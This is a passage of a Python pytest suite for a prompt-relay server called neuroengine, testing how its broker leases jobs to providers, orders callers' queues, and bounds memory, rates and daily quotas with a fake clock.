"""The tests of neuroengine: python -m pytest. Sections: Broker, Store, HTTP reader,
Relay, The OpenAI face, Client and provider, Bridge, Command lines, The page (in three
real browsers, if NEUROENGINE_BROWSER_TESTS=1), README and docs. No network but loopback."""

import argparse
import ast
import asyncio
import base64
import contextlib
import copy
import ctypes
import errno
import functools
import gc
import gzip
import hashlib
import http.client
import http.server
import importlib.util
import inspect
import io
import ipaddress
import itertools
import json
import math
import os
import pickle
import queue
import random
import re
import select
import selectors
import shutil
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import traceback
import tracemalloc
import types
import uuid
import weakref
import zlib

import pytest

import neuroengine
import neuroengine_server
from neuroengine import Neuroengine
from neuroengine import NeuroengineError
from neuroengine import NeuroengineServer
from neuroengine_server import Broker
from neuroengine_server import Identity
from neuroengine_server import Job
from neuroengine_server import Limits
from neuroengine_server import Poll
from neuroengine_server import Relay
from neuroengine_server import RelayError
from neuroengine_server import Service
from neuroengine_server import Store
from neuroengine_server import digest
from neuroengine_server import parse_head
from neuroengine_server import read_page

HERE = os.path.dirname(os.path.abspath(__file__))
for ignored in (getattr(signal, "SIGHUP", None), signal.SIGINT):
    # Under nohup, or in the background of a shell, programs would inherit that.
    with contextlib.suppress(TypeError, ValueError):
        if signal.getsignal(ignored) == signal.SIG_IGN:
            signal.signal(ignored, signal.SIG_DFL)


def patient(seconds):
    """A bound for what takes so long at most. Where other programs keep the processors busy,
    each gets its share of them and takes longer by as much."""
    load = os.getloadavg()[0] if hasattr(os, "getloadavg") else 0
    return seconds * min(max(1, load / os.cpu_count()), 20)


SOON = patient(10)      # seconds that only a failure reaches


def until(fact, seconds=10):
    """Wait until fact() is true, and return what it returned."""
    began = time.monotonic()
    while True:
        value = fact()
        if value:
            return value
        assert time.monotonic() - began < patient(seconds), "it did not happen in time"
        time.sleep(0.005)


@pytest.fixture(scope="session", autouse=True)
def quiet_between_tests(request):
    """While pytest captures nothing, between two tests, a relay's log is not shown."""
    log = neuroengine_server.log

    def unless_shown(*args, **kw):
        if sys.stderr is not sys.__stderr__:
            log(*args, **kw)
    if request.config.getoption("capture") != "no":
        neuroengine_server.log = unless_shown
    yield
    neuroengine_server.log = log


##############################################################################
# Broker, with a fake clock and no sockets
##############################################################################


class Desk:
    """A Broker, its clock, and a service, with short words for what tests do."""

    def __init__(self, **limits):
        self.time = 1000.0
        self.broker = Broker(Limits(**limits), clock=lambda: self.time)
        self.service = Service("Llm", "")
        self.broker.add(self.service)

    def later(self, seconds):
        self.time += seconds
        self.broker.expire()

    def login(self, **kw):
        return self.broker.login(self.service, **kw)

    def poll(self, session, running=(), token=None):
        """(job id, attempt, at, text so far) of each job, and the cancelled."""
        jobs, cancels = self.broker.poll(self.service, session, token or Poll(),
                                         running, timeout=0)
        return [(job.id, attempt, at, text) for job, attempt, at, text in jobs], cancels

    def identity(self, kind, name, fingerprint=None):
        return Identity(kind, self.service, name, fingerprint=fingerprint)

    def submit(self, text=b'{"message":"hi"}', caller="alice", identity=None, at=None,
               access=None, **facts):
        if access is not None:
            self.service.keys[access.digest] = access
        job = Job(self.service, text, caller, access=access, **facts)
        return self.broker.submit(job, identity, at)

    def push(self, session, job, items=(), at=0, attempt=1, **kw):
        entry = dict(kw, job=job, attempt=attempt, at=at, items=list(items))
        refused, offers, cancels = self.broker.push(self.service, session, [entry])
        return refused, [job.id for job, _, _, _ in offers], cancels

    def start(self, **kw):
        """A prompt that a provider has in hand: (reader, session, job id)."""
        session = self.login()
        reader = self.submit(**kw)
        (job, attempt, _, _), = self.poll(session)[0]
        self.poll(session, [(job, attempt)])
        return reader, session, job


@pytest.fixture
def desk():
    return Desk()


def test_a_prompt_reaches_a_provider_and_its_items_come_back_in_order(desk):
    reader, session, job = desk.start()
    desk.push(session, job, ["a", "b"])
    assert desk.broker.read(reader) == (["a", "b"], False)
    desk.push(session, job, ["c"], at=2, done=True)
    assert desk.broker.read(reader) == (["c"], True)
    assert reader.job.state == "done"


def test_a_parked_poll_wakes_on_submit(desk):
    session, got = desk.login(), []
    thread = threading.Thread(target=lambda: got.extend(desk.broker.poll(
        desk.service, session, Poll(), (), timeout=SOON)[0]))
    thread.start()
    until(lambda: desk.service.idle)
    desk.submit()
    thread.join(SOON)
    assert len(got) == 1


def parked(desk, session):
    """Park a poll of a session in a thread; return the list that gets what it answers."""
    got = []

    def poll():
        with contextlib.suppress(RelayError):
            got.extend(desk.broker.poll(desk.service, session, Poll(), ())[0])
    threading.Thread(target=poll, daemon=True).start()
    until(lambda: desk.broker._sessions[session].parked)
    return got


def test_a_prompt_goes_back_to_its_provider_if_no_other_can_answer_it(desk):
    able, unable = desk.login(apis=("chat",)), desk.login()
    job = desk.submit(needs="chat").job
    assert desk.poll(able)[0]
    desk.later(desk.broker.limits.handover_seconds)          # it was lost on its way
    assert not desk.poll(unable)[0] and desk.poll(able)[0] == [(job.id, 2, 0, None)]


@pytest.mark.parametrize("how", ["taken", "cancelled"])
def test_a_parked_poll_gets_what_others_leave_to_it(desk, how):
    idle, other = desk.login(), desk.login(apis=("chat",))
    got = parked(desk, idle)
    first = desk.submit(needs="chat")
    desk.submit()                          # of the same caller: it waits for its turn
    assert got == []
    if how == "cancelled":
        desk.broker.cancel(first.job)
    else:
        assert len(desk.poll(other)[0]) == 1
    until(lambda: got)
    desk.broker.close()


def test_a_push_beside_a_parked_poll_does_not_shorten_its_silence(desk):
    session = desk.login()
    parked(desk, session)
    desk.broker.push(desk.service, session, [])
    desk.later(desk.broker.limits.lease_seconds + 1)
    assert session in desk.broker._sessions
    desk.broker.close()


def test_a_provider_that_comes_back_undoes_only_its_own_death(desk):
    reader, session, job = desk.start()
    desk.later(60)                         # it is silent: a death
    second = desk.login()
    assert desk.poll(second)[0]
    desk.later(desk.broker.limits.handover_seconds)          # never confirmed: no death
    desk.push(second, job, ["x"], attempt=2)
    assert reader.job.deaths == 1 and reader.job.state == "leased"


def test_an_end_that_is_too_large_frees_its_worker_at_once():
    desk = Desk(max_reply_bytes=1000)
    reader, session, job = desk.start()
    following = desk.submit().job
    refused, offers, cancels = desk.push(session, job, ["x" * 2000], done=True)
    assert reader.job.error.name == "reply_too_large"
    assert offers == [following.id] and cancels == []


def test_a_job_that_its_provider_ignores_goes_to_another(desk):
    ignoring, reader = desk.login(), desk.submit()
    desk.poll(ignoring)
    other, seconds = desk.login(), 0
    while not desk.poll(other)[0]:
        desk.later(2.5)                    # sooner than handover_seconds, each time
        desk.poll(ignoring)
        seconds += 2.5
        assert seconds < 30
    assert reader.job.state == "leased" and reader.job.attempt == 2


@pytest.mark.parametrize("begun", [False, True])
def test_a_prompt_that_no_connected_provider_can_answer_fails_unless_it_waits(desk, begun):
    able, unable = desk.login(embeddings=True), desk.login()
    facts = {"needs": "embeddings"}
    readers = [desk.submit(**facts), desk.submit(caller="bob", wait=True, **facts)]
    if begun:
        desk.poll(able)
    desk.broker.logout(desk.service, able)
    for _ in range(4):
        desk.later(desk.broker.limits.offline_seconds / 2)
        desk.poll(unable)
    error = readers[0].job.error
    assert error.name == "service_offline" and "that can answer this" in error.words
    assert readers[1].job.state == "queued"


def test_the_prompts_of_one_response_are_bounded_for_a_poll_that_waited(desk):
    first, payload = desk.login(workers=32), b'"%s"' % (b"x" * (2 << 20))
    for number in range(8):
        desk.submit(payload, caller="caller %d" % number)
    while desk.service.queue.size:
        desk.poll(first, list(desk.broker._sessions[first].leases))
    got = parked(desk, desk.login(workers=32))
    desk.broker.logout(desk.service, first)
    until(lambda: got)
    assert sum(len(job.payload) for job, *_ in got) <= (
        neuroengine_server.MAX_HANDOVER_BYTES + len(payload))
    desk.broker.close()


def test_a_provider_that_lost_a_job_has_it_again_if_the_others_do_not_poll(desk):
    reader, session = desk.submit(wait=True), desk.login()
    desk.poll(session)
    desk.login()                           # of a program that has ended since
    desk.later(desk.broker.limits.handover_seconds)
    assert not desk.poll(session)[0]
    desk.later(neuroengine_server.POLL_GAP_SECONDS)
    assert desk.poll(session)[0] and reader.job.state == "leased"


def test_a_poll_whose_connection_broke_before_it_began_takes_no_job(desk):
    session, reader, poll = desk.login(), desk.submit(), Poll()
    desk.broker.poll_broken(session, poll)
    desk.poll(session, token=poll)
    assert reader.job.state == "queued"


def test_a_lease_that_was_never_confirmed_frees_its_worker_for_a_parked_poll(desk):
    session, reader = desk.login(), desk.submit()
    (job, attempt, _, _), = desk.poll(session)[0]
    desk.push(session, job, ["a"])
    desk.later(1.5)
    desk.poll(session)                     # does not name it
    desk.later(4.9)
    got = parked(desk, session)
    desk.later(0.2)
    reader.job.needs = "chat"              # which this provider has not
    desk.submit(caller="bob")
    until(lambda: got)
    desk.broker.close()


def test_a_provider_that_comes_back_is_no_death_even_after_a_lease_that_was_never_sent(desk):
    reader, session, job = desk.start()
    other, poll = desk.login(), Poll()
    parked(desk, other)
    desk.poll(session, [(job, 1)], token=poll)
    desk.broker.poll_broken(session, poll)
    with desk.broker._lock:                # so that the parked poll has not woken yet
        desk.broker._broken_locked(desk.broker._sessions[session], poll)
        assert reader.job.deaths == 1 and reader.job.lease.session.id == other
        desk.broker._end_session_locked(desk.broker._sessions[other])
    desk.poll(session, [(job, 1)])
    assert reader.job.state == "leased" and reader.job.deaths == 0
    desk.broker.close()


def test_an_encoded_answer_is_not_kept_for_a_job_that_made_room_for_it():
    desk = Desk(max_held_bytes=1 << 20)
    session, identity = desk.login(workers=8), desk.identity("repeat", "x")
    reader = desk.submit(caller="1.1.1.1", identity=identity)
    (job, _, _, _), = desk.poll(session)[0]
    desk.push(session, job, ["x" * 100] * 1500, done=True)
    desk.broker.leave(reader)
    for number in range(3):
        desk.submit(b"y" * 240000, caller="10.0.0.%d" % number)
    desk.broker.keep_encoded(reader.job, "native", b"z" * 200000)
    assert reader.job.id not in desk.broker._jobs
    assert desk.broker._memory.held_by("1.1.1.1") == 0


def test_answers_that_nobody_waits_for_give_way_to_running_prompts():
    desk = Desk(max_held_bytes=1 << 20)
    session = desk.login(workers=8)
    for number in range(6):
        reader = desk.submit(caller="1.1.1.%d" % number, identity=desk.identity("body", number))
        (job, _, _, _), = desk.poll(session)[0]
        desk.push(session, job, ["x" * 100] * 1560)
        if number % 2:
            desk.broker.leave(reader)      # before the end, or after it
        desk.push(session, job, at=1560, done=True)
        desk.broker.leave(reader)
    assert reader.job.state == "done"


def test_a_prompt_for_a_service_or_of_a_key_that_was_deleted_meanwhile_is_refused(desk):
    desk.login()
    access = neuroengine_server.AccessKey("i", "d", "", 0, *[None] * 5, 0, 0, 0, None)
    with pytest.raises(RelayError) as refused:
        desk.broker.submit(Job(desk.service, b"{}", access=access))
    assert refused.value.name == "invalid_key"
    desk.broker.remove(desk.service)
    with pytest.raises(RelayError) as refused:
        desk.submit(wait=True)
    assert refused.value.name == "service_unknown"


def test_a_stream_with_as_many_readers_as_it_may_have_can_be_cancelled(desk):
    identity, job = desk.identity("stream", "k"), desk.submit(
        identity=desk.identity("stream", "k"), wait=True).job
    for _ in range(neuroengine_server.MAX_READERS_PER_JOB - 1):
        desk.broker.open(identity)
    desk.broker.cancel_stream(identity)
    assert job.state == "cancelled"


def test_a_job_moves_only_as_the_table_says(desk):
    reader, session, job = desk.start()
    desk.push(session, job, done=True)
    for state in neuroengine_server.Job.MOVES:
        with pytest.raises(AssertionError):
            reader.job.move(state)


def test_a_lease_moves_only_as_the_table_says(desk):
    reader, session, job = desk.start()
    lease, = desk.broker._sessions[session].leases.values()
    moves = neuroengine_server.Lease.MOVES
    for state in moves:
        for other in set(moves) - set(moves[state]):
            lease.state = state
            with pytest.raises(AssertionError):
                lease.move(other, desk.time)


def test_a_lease_that_was_there_counts_even_if_it_is_offered_again(desk):
    reader, session, job = desk.start()
    desk.later(desk.broker.limits.handover_seconds / 5)

    class Breaks(Poll):                    # while its response is made
        looks = 0

        @property
        def broken(self):
            self.looks += 1
            return self.looks > 1
    assert desk.poll(session, token=Breaks()) == ([], [])    # does not name it
    assert reader.job.lease.state == "offered"
    desk.broker.logout(desk.service, session)
    assert desk.poll(desk.login())[0] == [(job, 2, 0, None)]


def test_a_poll_that_broke_before_it_began_connects_nobody(desk):
    session, good = desk.login(), Poll()
    desk.poll(session, token=good)
    desk.broker.poll_broken(session, good)
    desk.later(desk.broker.limits.close_seconds)
    assert not desk.service.sessions
    broken = Poll()
    desk.broker.poll_broken(session, broken)
    assert desk.poll(session, token=broken) == ([], []) and not desk.service.sessions


def test_what_is_not_text_is_not_offered_again_to_be_continued(desk):
    session = desk.login(continues=True)
    reader = desk.submit()
    (job, _, _, _), = desk.poll(session)[0]
    desk.push(session, job, ["Hi", b'{"tool_calls":[{"id":"a"}]}'])
    desk.later(2)
    assert desk.poll(session) == ([], [])                    # it has lost the job
    desk.broker.read(reader)
    desk.later(desk.broker.limits.handover_seconds)
    assert reader.job.error.name == "provider_lost"


@pytest.mark.parametrize("returned", [False, True])
def test_each_departure_of_a_provider_gives_its_prompts_the_whole_time(desk, returned):
    session = desk.start()[1]
    waiting = desk.submit(caller="bob").job
    seconds = desk.broker.limits.offline_seconds
    desk.broker.logout(desk.service, session)
    desk.later(1)
    again = desk.login()
    if returned:                           # then the departure queues it again
        desk.poll(again)
    desk.later(seconds - 2)
    desk.poll(again)
    desk.broker.logout(desk.service, again)
    desk.later(seconds - 1)
    assert waiting.state == "queued"
    desk.later(1)
    assert waiting.error.name == "service_offline"


def test_a_poll_whose_work_a_push_took_does_not_stay_idle(desk):
    session = desk.login()
    parked(desk, session)
    with desk.broker._lock:                # so that a push comes before the woken poll
        desk.broker._sessions[session].free = lambda: 0
    reader = desk.submit()
    del desk.broker._sessions[session].free
    assert desk.push(session, "gone", ["x"])[1] == [reader.job.id]
    with desk.broker._lock:
        desk.broker._sessions[session].has_response.notify_all()
    until(lambda: not desk.broker._sessions[session].parked)
    desk.push(session, reader.job.id, ["x"])
    desk.broker.read(reader)
    desk.later(desk.broker.limits.lease_seconds + 1)
    assert reader.job.error.name == "provider_lost"


def test_a_prompts_time_with_a_provider_that_died_is_not_the_next_ones(desk):
    reader, session, job = desk.start()
    desk.later(60)
    second = desk.login()
    desk.poll(second)
    desk.later(1)
    desk.push(second, job, ["x"], attempt=2, done=True)
    assert desk.service.job_seconds == 1


@pytest.mark.parametrize("entry", [{"raw": True}, {"fault": RelayError("provider_error", "x")}])
def test_a_provider_is_told_to_stop_a_job_that_the_relay_ended_for_its_items(desk, entry):
    reader, session, job = desk.start()
    assert desk.push(session, job, [b"x"], **entry) == (
        [{"job": job, "error": "fenced"}], [], [(job, 1)])
    following = desk.submit()
    assert reader.job.error.name == "provider_error"
    assert desk.poll(session, [(job, 1)])[0] == []           # its one worker is not free
    assert desk.push(session, job, done=True)[1] == [following.job.id]


def test_an_idempotency_key_whose_answer_had_to_make_room_starts_the_prompt_again():
    desk = Desk(max_held_bytes=200000, max_reply_bytes=150000)
    session, key = desk.login(workers=9), desk.identity("repeat", "k", b"f")
    first = desk.submit(identity=key)
    desk.poll(session)
    desk.push(session, first.job.id, ["x" * 90000], done=True)
    other = desk.submit(b'"%s"' % (b"y" * 20000), caller="bob")
    desk.poll(session)
    desk.push(session, other.job.id, ["z" * 100000])
    assert first.job.error.name == "relay_busy"
    desk.broker.cancel(other.job)
    assert desk.submit(identity=desk.identity("repeat", "k", b"f")).job is not first.job


@pytest.mark.parametrize("leaves", ["before", "after"])
def test_a_failure_that_nobody_heard_is_not_the_answer_to_an_equal_prompt(desk, leaves):
    session, body = desk.login(), desk.identity("body", "x", b"f")
    reader = desk.submit(identity=body)
    (job, _, _, _), = desk.poll(session)[0]
    if leaves == "before":
        desk.broker.hang_up(reader)
    desk.push(session, job, error=RelayError("provider_timeout", "x"))
    if leaves == "after":
        desk.broker.hang_up(reader)
    assert desk.submit(identity=desk.identity("body", "x", b"f")).job is not reader.job
    assert reader.job.id not in desk.broker._jobs


def test_a_stream_that_hangs_up_does_not_move_where_reads_by_the_same_key_go_on(desk):
    reader, session, job = desk.start(identity=desk.identity("stream", "k", b"f"))
    desk.push(session, job, list("abc"))
    desk.broker.read(reader)
    desk.broker.advance(reader)
    desk.broker.leave(reader, True)
    stream = desk.broker.open(desk.identity("stream", "k"), 0)
    desk.broker.read(stream)
    desk.broker.hang_up(stream)
    assert desk.broker.read(desk.broker.open(desk.identity("stream", "k"))) == ([], False)


def test_no_session_begins_for_a_service_that_was_deleted_meanwhile(desk):
    desk.broker.remove(desk.service)
    with pytest.raises(RelayError) as caught:
        desk.login()
    assert caught.value.name == "service_unknown" and not desk.broker._changed


@pytest.mark.parametrize("seed", range(10))
def test_random_walks_lose_nothing_and_double_nothing(seed):
    """bench/checks/walk.py takes longer ones."""
    walks = bench_module("checks", "walk.py")
    walks.walk(seed, 500)


def test_the_operators_next_prompt_goes_before_those_of_others_whoever_can_take_it(desk):
    reader = desk.submit(by_operator=True, wait=True, needs="chat", caller="a laptop")
    second = desk.submit(by_operator=True, wait=True, needs="chat", caller="a laptop")
    desk.submit(wait=True), desk.submit(by_operator=True, wait=True, caller="a phone")
    session = desk.login()                 # of a provider without that API
    job, = desk.poll(session)[0]
    assert desk.broker._jobs[job[0]].caller == "a phone"
    assert reader.job.state == second.job.state == "queued"


def test_callers_take_turns_and_the_operator_goes_first(desk):
    desk.login()
    order = []
    for caller, text in (("a", b'"a1"'), ("a", b'"a2"'), ("a", b'"a3"'), ("b", b'"b1"'),
                         ("c", b'"c1"'), ("b", b'"b2"')):
        order.append(desk.submit(text, caller=caller))
    own = desk.submit(b'"own"', by_operator=True)
    assert desk.broker.queue_position(own.job)["position"] == 1
    places = [desk.broker.queue_position(reader.job)["position"] for reader in order]
    assert places == [2, 5, 7, 3, 4, 6]
    session = desk.login(workers=7)
    jobs, _ = desk.broker.poll(desk.service, session, Poll(), (), timeout=0)
    assert [job.payload for job, _, _, _ in jobs] == [
        b'"own"', b'"a1"', b'"b1"', b'"c1"', b'"a2"', b'"b2"', b'"a3"']


def test_the_callers_of_one_wide_network_take_turns_as_one(desk):
    crowd = [desk.submit(caller="2001:db8:1:%x::/64" % number, wait=True) for number in range(9)]
    other = desk.submit(caller="192.0.2.1", wait=True)
    assert desk.broker.queue_position(other.job)["position"] == 2
    desk.poll(desk.login())
    assert crowd[0].job.state == "leased" and desk.broker.queue_position(
        other.job)["position"] == 1


def test_queues_are_bounded_per_service_and_per_caller():
    desk = Desk(max_queue=3, max_queue_per_caller=2)
    desk.login()
    desk.submit(), desk.submit()
    with pytest.raises(RelayError) as refused:
        desk.submit()
    assert refused.value.name == "rate_limited" and refused.value.retry_after
    desk.submit(caller="bob")
    desk.submit(caller="carol")            # one of the two gives way
    with pytest.raises(RelayError) as refused:
        desk.submit(caller="dave")
    assert refused.value.name == "queue_full" and refused.value.retry_after


def test_urgent_prompts_count_for_their_caller_and_not_for_the_operator():
    desk = Desk(max_queue=4, max_queue_per_caller=2)
    desk.login()
    desk.submit(urgent=True), desk.submit(urgent=True)
    with pytest.raises(RelayError) as refused:
        desk.submit(urgent=True)
    assert refused.value.name == "rate_limited"
    desk.submit(by_operator=True), desk.submit(by_operator=True)
    newest = desk.submit(caller="bob", urgent=True)      # the newest of alice gives way
    assert newest.job.error is None and desk.service.queue.size == 4


def test_queue_positions_are_the_order_in_which_jobs_are_taken():
    desk, rand = Desk(max_queue_per_caller=99), random.Random(1)
    first = desk.login(workers=4)
    readers = [desk.submit(caller=rand.choice("abcdef"), by_operator=rand.random() < 0.1,
                           urgent=rand.random() < 0.1) for _ in range(60)]
    desk.poll(first)
    desk.broker.logout(desk.service, first)              # its four come back
    waiting = sorted((reader.job for reader in readers), key=lambda job: desk.
                     broker.queue_position(job)["position"])
    second = desk.login(workers=60)
    jobs, _ = desk.broker.poll(desk.service, second, Poll(), (), timeout=0)
    assert [job for job, _, _, _ in jobs] == waiting


def test_a_job_without_a_provider_is_looked_at_alone(desk, monkeypatch):
    """With a look at the whole queue for each, 1,000 jobs held the lock for 0.3 s."""
    readers = [desk.submit(caller=name, wait=True) for name in "abc"]
    monkeypatch.setattr(neuroengine_server.Queue, "__iter__", lambda _: 1 / 0)
    desk.later(desk.broker.limits.offline_seconds + 1)
    assert all(reader.job.state == "queued" for reader in readers)


def test_a_prompt_larger_than_its_share_of_the_memory_is_not_told_to_wait(desk):
    with pytest.raises(RelayError) as refused:
        desk.submit(b"x" * (desk.broker.limits.max_held_bytes // 4 + 1), wait=True)
    assert refused.value.name == "request_too_large" and not refused.value.retry


@pytest.mark.parametrize("named", [True, False])
def test_what_is_not_counted_any_more_is_not_in_memory_either(desk, named):
    """A provider that never lets go of a cancelled job, and a timer, refer to it still."""
    identity = desk.identity("stream", "k" * 20) if named else None
    reader, session, job = desk.start(identity=identity)
    desk.push(session, job, ["x" * 1000])
    desk.broker.cancel(reader.job)
    desk.broker.leave(reader, True)
    if named:
        desk.submit(b"x" * (desk.broker.limits.max_held_bytes // 4 - 4096), wait=True)
    desk.poll(session, [(job, 1)])
    record = weakref.ref(reader.job)
    del reader
    gc.collect()
    assert (job, 1) in desk.broker._sessions[session].leases and record() is None


def test_held_bytes_are_bounded_and_come_back_to_zero():
    desk = Desk(max_held_bytes=40000)
    reader, session, job = desk.start()
    with pytest.raises(RelayError) as refused:
        desk.submit(b"x" * (9000 - neuroengine_server.JOB_BYTES))    # a quarter is its share
    assert refused.value.name == "rate_limited"
    for caller in ("bob", "carol", "dave", "eve"):
        desk.broker.leave(desk.submit(b"x" * 4000, caller=caller, grace=9))
    with pytest.raises(RelayError) as refused:
        desk.submit(b"x" * 4000, caller="frank")
    assert refused.value.name == "relay_busy"
    desk.later(10)
    desk.push(session, job, ["abc"], done=True)
    desk.broker.read(reader)
    desk.broker.leave(reader, delivered=True)
    assert desk.broker.totals()[1]["held_bytes"] == 0 and not desk.broker._memory._holdings


@pytest.mark.parametrize("caller", ["alice", "2001:db8:1:2::/64"])
def test_a_prompt_for_which_there_is_no_memory_uses_up_no_quota(caller):
    desk = Desk(max_held_bytes=40000, max_anonymous_per_day=1)
    desk.login()
    waiting = [desk.submit(b"x" * 5000, caller="caller %d" % n) for n in range(4)]
    with pytest.raises(RelayError) as refused:
        desk.submit(b"x" * 5000, caller=caller, rated=True)
    assert refused.value.name == "relay_busy"
    for reader in waiting:
        desk.broker.cancel(reader.job)
        desk.broker.leave(reader, True)
    desk.submit(caller=caller, rated=True)
    with pytest.raises(RelayError) as refused:
        desk.submit(caller=caller, rated=True)
    assert refused.value.name == "quota_exceeded"


def test_empty_items_count_too_and_cannot_fill_the_memory():
    desk = Desk(max_held_bytes=50000)
    reader, session, job = desk.start()
    desk.push(session, job, [""] * 1000)
    assert reader.job.error.name == "relay_busy"


def test_the_largest_holder_loses_memory_first():
    desk = Desk(max_held_bytes=400000)
    session = desk.login(workers=9)
    greedy = [desk.submit(b"x" * 90000, caller="key %d" % n, holder="greedy %d" % n)
              for n in range(4)]
    modest = desk.submit(caller="bob")
    desk.poll(session)
    desk.push(session, modest.job.id, ["y" * 1000] * 30)
    assert modest.job.error is None and len(desk.broker.read(modest)[0]) == 30
    lost = [reader.job for reader in greedy if reader.job.error]
    assert [job.error.name for job in lost] == ["relay_busy"]
    assert desk.broker.read(greedy[greedy.index(next(
        r for r in greedy if r.job is lost[0]))]) == ([], True)
    with pytest.raises(RelayError) as refused:        # other keys, the same address
        desk.submit(b"x" * 60000, caller="key 9", holder="greedy 1")
    assert refused.value.name == "rate_limited"
    for reader in greedy + [modest]:
        desk.broker.cancel(reader.job)
        desk.broker.leave(reader, True)
    desk.broker.logout(desk.service, session)
    assert desk.broker.totals()[1]["held_bytes"] == 0 and not desk.broker._memory._holdings


def test_an_answer_dropped_for_memory_is_an_error():
    desk = Desk(max_held_bytes=400000)
    reader, session, job = desk.start(holder="greedy")
    desk.push(session, job, ["x" * 90000], done=True)
    for n in range(20):
        with contextlib.suppress(RelayError):
            desk.submit(b"x" * 20000, caller="bob", holder="holder %d" % n, wait=True)
    assert reader.job.error is not None and reader.job.error.name == "relay_busy"
    assert desk.broker.read(reader) == ([], True)


def test_a_room_is_bounded_in_all_and_by_address_but_not_for_this_machine():
    room = neuroengine_server.Room("slots", 50, hard=20)
    slots = [room.take("203.0.113.1") for _ in range(20)]
    with pytest.raises(RelayError) as refused:
        room.take("203.0.113.1")
    assert refused.value.name == "rate_limited"
    slots += [room.take("203.0.113.1", always=True), room.take("127.0.0.1", 24)]
    with pytest.raises(RelayError) as refused:       # a tenth is reserved
        room.take("203.0.113.2")
    assert refused.value.name == "relay_busy"
    slots.append(room.take("203.0.113.2", reserved=True))
    slots.append(room.take(None, 4))
    with pytest.raises(RelayError):
        room.take("203.0.113.3", reserved=True)
    for slot in slots:
        slot.release()
        slot.release()
    assert room.taken == 0 and not room._by and not room._slots


def test_an_address_above_its_share_gives_way_to_one_below():
    room, lost = neuroengine_server.Room("slots", 20), []
    greedy = [room.take("203.0.113.1", give_way=lambda n=n: lost.append(n))
              for n in range(18)]
    slot = room.take("203.0.113.2")
    assert lost == [17] and room.taken == 18         # the newest of the greedy one
    greedy[17].release()
    assert room.taken == 18
    with pytest.raises(RelayError):                  # it is above its share itself
        room.take("203.0.113.1")
    slot.release()


def test_room_is_taken_from_many_small_slots_and_from_a_whole_ipv6_site():
    room, lost = neuroengine_server.Room("memory", 100), []
    for n in range(90):
        room.take("2001:db8:0:%x::/64" % (n % 9), give_way=lambda n=n: lost.append(n))
    room.take("203.0.113.1", 9)
    assert len(lost) == 9 and room.taken == 90


def test_every_waiter_that_fits_gets_room_when_some_is_released():
    room = neuroengine_server.Room("memory", 1000)
    held = [room.take(None, 500), room.take(None, 500)]
    large = in_thread(room.take, None, 900, wait=SOON)
    small = in_thread(room.take, None, 50, wait=SOON)
    until(lambda: len(room._released._waiters) == 2)
    held[0].release()
    assert small().count == 50
    held[1].release()
    assert large().count == 900


def test_an_ipv6_household_is_one_address_and_its_provider_has_a_larger_share():
    room = neuroengine_server.Room("slots", 1000, hard=2)
    for n in range(4):
        room.take("2001:db8:0:%d::/64" % n), room.take("2001:db8:0:%d::/64" % n)
    with pytest.raises(RelayError):
        room.take("2001:db8:0:9::/64")
    room.take("2001:db8:1:9::/64")


def test_a_session_is_one_of_its_own_service_alone(desk):
    other = Service("Other", "")
    desk.broker.add(other)
    for use in (lambda session: desk.broker.poll(other, session, Poll(), (), timeout=0),
                lambda session: desk.broker.push(other, session, []),
                lambda session: desk.broker.logout(other, session)):
        with pytest.raises(RelayError) as refused:
            use(desk.login())
        assert refused.value.name == "session_unknown"


def test_a_late_deletion_spares_the_next_service_of_that_name(desk):
    again = Service("Llm", "")
    desk.broker.remove(desk.service)
    desk.broker.add(again)
    desk.broker.remove(desk.service)
    assert desk.broker.find("llm") is again


def test_many_unknown_jobs_of_a_poll_cost_little(desk):
    session = desk.login()
    began = time.monotonic()
    _, cancels = desk.poll(session, [("j%d" % n, 1) for n in range(20000)])
    assert len(cancels) == neuroengine_server.MAX_UNKNOWN_LEASES
    assert time.monotonic() - began < patient(5)


def test_an_idle_provider_gets_the_job_it_avoided_once_it_is_the_only_one(desk):
    avoided = desk.login()
    reader = desk.submit()
    desk.poll(avoided)
    other = desk.login()
    desk.later(5)                                # never confirmed
    got = []
    thread = threading.Thread(target=lambda: got.extend(desk.broker.poll(
        desk.service, avoided, Poll(), (), timeout=SOON)[0]))
    thread.start()
    until(lambda: desk.service.idle)
    desk.broker.logout(desk.service, other)
    thread.join(SOON)
    assert [job for job, _, _, _ in got] == [reader.job]


def test_rates_are_bounded_per_address_and_forgotten_in_time():
    now = [0.0]
    rates = neuroengine_server.Rates(clock=lambda: now[0])
    for _ in range(20):
        rates.take("a", 20, 3600, "registrations")
    with pytest.raises(RelayError) as refused:
        rates.take("a", 20, 3600, "registrations")
    assert refused.value.name == "rate_limited" and 0 < refused.value.retry_after <= 180
    assert "20 in 60 minutes are allowed. Try again in 3 minutes." in str(
        refused.value)
    rates.take("b", 20, 3600, "registrations")
    now[0] = 181
    rates.take("a", 20, 3600, "registrations")
    for n in range(11000):
        rates.take(n, 20, 3600, "registrations")
    assert len(rates._due) == rates.MOST


def test_prompts_of_strangers_are_bounded_in_number_and_refilled_in_time():
    desk = Desk(max_prompts_per_minute=3, max_anonymous_per_day=5)

    def submit(**kw):
        desk.submit(wait=True, **kw)

    for _ in range(3):
        submit(rated=True)
    with pytest.raises(RelayError) as refused:
        submit(rated=True)
    assert refused.value.name == "rate_limited" and 0 < refused.value.retry_after <= 20
    submit(rated=True, caller="bob")
    submit(rated=True, by_operator=True)
    submit(rated=False)               # this machine's
    desk.later(21)
    submit(rated=True)
    desk.later(60)
    submit(rated=True)
    with pytest.raises(RelayError) as refused:
        submit(rated=True)
    assert refused.value.name == "quota_exceeded" and "hours" in str(refused.value)


def test_the_households_of_one_ipv6_site_may_have_four_times_the_prompts_of_one():
    desk = Desk(max_prompts_per_minute=2)
    desk.login()
    for n in range(8):
        desk.submit(caller="2001:db8:0:%d::/64" % (n // 2), rated=True)
    with pytest.raises(RelayError) as refused:
        desk.submit(caller="2001:db8:0:9::/64", rated=True)
    assert refused.value.name == "rate_limited"
    desk.submit(caller="2001:db8:1:9::/64", rated=True)


def test_the_providers_of_one_service_are_a_bounded_number():
    desk = Desk(max_sessions=2)
    session, _ = desk.login(), desk.login()
    with pytest.raises(RelayError) as refused:
        desk.login()
    assert refused.value.name == "relay_busy" and refused.value.retry_after
    desk.broker.logout(desk.service, session)
    desk.login()


def test_a_wall_clock_that_was_wrong_for_a_while_costs_nobody_a_quota():
    wall = [1e9]
    quotas = neuroengine_server.Quotas(lambda: wall[0])
    for wrong in (1e9 + 400 * 86400, 1e9 - 400 * 86400):
        for now in (wrong, 1e9 + 86400):
            wall[0] = now
